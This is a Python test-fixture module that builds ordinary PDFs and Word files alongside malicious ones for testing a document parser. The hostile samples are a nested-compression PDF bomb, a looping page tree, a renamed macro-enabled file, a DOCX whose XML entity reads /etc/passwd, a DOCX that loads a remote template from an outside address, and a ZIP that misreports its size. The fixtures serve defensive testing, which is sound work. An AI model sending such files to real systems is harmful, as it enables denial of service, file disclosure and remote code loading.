"""Files for tests: good ones, and ones made to do harm."""

import io
import zipfile
import zlib
from pathlib import Path

import docx
import pypdfium2
import typst

FONTS = [
    str(folder)
    for name in ("fontpkg_noto_sans", "fontpkg_noto_sans_devanagari")
    for folder in [Path(__import__(name).__file__).parent / "files"]
]
PAGE = '#set text(font: ("Noto Sans", "Noto Sans Devanagari"), size: 11pt)\n'


def pdf_of(text: str) -> bytes:
    """A PDF as a ministry would make it: paragraphs of the text, set in lines."""
    return typst.compile((PAGE + text).encode(), font_paths=FONTS, ignore_system_fonts=True)


def pdf_of_pages(count: int) -> bytes:
    """A PDF of empty pages, as a scanner's without its pictures."""
    document, file = pypdfium2.PdfDocument.new(), io.BytesIO()
    for _number in range(count):
        document.new_page(200, 200)
    document.save(file)
    return file.getvalue()


def pdf_by_hand(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF from its objects, the first of which is the catalogue."""
    file, places = io.BytesIO(), []
    file.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, 1):
        places.append(file.tell())
        file.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = file.tell()
    file.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        file.write(b"%010d 00000 n \n" % place)
    file.write(b"trailer <</Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer))
    file.write(b"startxref\n%d\n%%%%EOF" % table)
    return file.getvalue()


CATALOGUE, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def encrypted_pdf() -> bytes:
    """A PDF that wants a password."""
    key = b"<" + b"41" * 32 + b">"
    lock = b"<</Filter/Standard/V 2/R 3/Length 128/P -4/O " + key + b"/U " + key + b">>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf_by_hand(CATALOGUE, TREE, page, lock, trailer=b"/Encrypt 4 0 R/ID[<41><41>]")


def bomb_pdf() -> bytes:
    """A page whose content unpacks to 400 MB."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    packer = zlib.compressobj(9)
    once = b"".join([*(packer.compress(b" " * 2**20) for _part in range(400)), packer.flush()])
    twice = zlib.compress(once, 9)
    content = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(twice), twice)
    return pdf_by_hand(CATALOGUE, TREE, page, content)


def looping_pdf() -> bytes:
    """A table of contents that leads to itself."""
    return pdf_by_hand(CATALOGUE, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>")[:-20] + b"startxref\n9\n%%EOF"


def docx_of(*paragraphs: str, cells: tuple[str, ...] = ()) -> bytes:
    """A Word file with paragraphs, and a row of a table."""
    document, file = docx.Document(), io.BytesIO()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    if cells:
        row = document.add_table(1, len(cells)).rows[0]
        for cell, text in zip(row.cells, cells, strict=True):
            cell.text = text
    document.save(file)
    return file.getvalue()


def docx_with(**parts: bytes | None) -> bytes:
    """A Word file with parts put in, replaced or, where None, taken out; ``__`` stands for a slash."""
    given = {name.replace("__", "/"): part for name, part in parts.items()}
    with zipfile.ZipFile(io.BytesIO(docx_of("Words"))) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in (kept | given).items():
            if part is not None:
                archive.writestr(name, part)
    return file.getvalue()


def renamed_docm() -> bytes:
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName='
    kind = (
        b'"/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    return docx_with(**{"[Content_Types].xml": types + kind})


def docx_with_entities() -> bytes:
    doctype = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
    return docx_with(**{"word/document.xml": doctype})


def docx_with_template() -> bytes:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship'
        b' Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    )
    return docx_with(**{"word/_rels/settings.xml.rels": relations})


def lying_docx() -> bytes:
    """Its directory says that a part of 100 MB has a hundred bytes."""
    size = 100 * 2**20
    true, false = size.to_bytes(4, "little"), (100).to_bytes(4, "little")
    return docx_with(**{"word/document.xml": b" " * size}).replace(true, false)
